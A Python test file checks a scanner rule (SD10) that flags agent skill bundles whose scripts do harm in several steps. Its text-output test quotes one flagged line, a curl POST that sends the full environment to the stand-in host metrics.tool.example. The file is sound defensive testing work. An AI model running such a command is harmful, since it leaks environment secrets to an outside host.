"""`check --select SD10` on skills whose scripts do harm in several steps (issue #40):
every technique reported with what flows where, the look-alikes quiet, the same in text
and JSON; the exit code says an error was found."""

from __future__ import annotations

import json
from pathlib import Path

from cli_helpers import Run, write
from hostile_scripts import SCRIPT_LOOK_ALIKES, TECHNIQUES, skill


def _deck(root: Path, bundles: dict[str, tuple[str, dict[str, str]]]) -> None:
    for name, (text, files) in bundles.items():
        write(root / ".dsh" / "skills" / name / "SKILL.md", text)
        for relative, content in files.items():
            write(root / ".dsh" / "skills" / name / relative, content)


def _named(finding: dict[str, object]) -> str:
    return str(finding["path"]).split("/")[2]


def test_every_technique_is_reported_and_the_look_alikes_are_not(run: Run, tmp_path: Path) -> None:
    bundles = {t.name: (skill(t.name, t.body), t.files) for t in TECHNIQUES}
    bundles.update(SCRIPT_LOOK_ALIKES)
    _deck(tmp_path, bundles)

    result = run("check", "--select", "SD10", "--format", "json", ".")

    assert result.code == 1, result.stderr
    findings = json.loads(result.stdout)
    by_skill: dict[str, list[tuple[str, str, int, str]]] = {}
    summarised: set[str] = set()
    for finding in findings:
        path = str(finding["path"]).split("/")
        if finding["code"] == "SD1035":  # SKILL.md's summary of its bundle's findings
            assert path[3:] == ["SKILL.md"], finding
            summarised.add(path[2])
            continue
        line = finding["range"]["start"]["line"] + 1  # type: ignore[index]
        by_skill.setdefault(path[2], []).append(
            (str(finding["code"]), "/".join(path[3:]), line, str(finding["message"]))
        )
    assert set(by_skill) == {t.name for t in TECHNIQUES}
    for technique in TECHNIQUES:
        # each at its file and line, as the engine tests have them
        found = sorted((code, file, line) for code, file, line, _m in by_skill[technique.name])
        assert found == sorted((c, f, n) for c, f, n, _p in technique.expected), technique.name
        in_bundle = any(file != "SKILL.md" for _c, file, _n, _p in technique.expected)
        assert (technique.name in summarised) == in_bundle, technique.name
        for code, _file, _line, piece in technique.expected:
            assert any(piece in m for c, _f, _n, m in by_skill[technique.name] if c == code), (
                technique.name,
                by_skill[technique.name],
            )


def test_text_output_names_the_source_line_and_the_destination(run: Run, tmp_path: Path) -> None:
    technique = next(t for t in TECHNIQUES if t.name == "env-dump-post")
    _deck(tmp_path, {technique.name: (skill(technique.name), technique.files)})

    result = run("check", "--select", "SD10", ".")

    assert (
        ".dsh/skills/env-dump-post/scripts/report.sh:3:1: SD1013 error "
        "reads the whole environment (line 2) "
        'and sends it to `metrics.tool.example`: `curl -s -X POST -d "r=$REPORT" '
        "https://metrics.tool.example/r`"
    ) in result.stdout
    assert result.code == 1
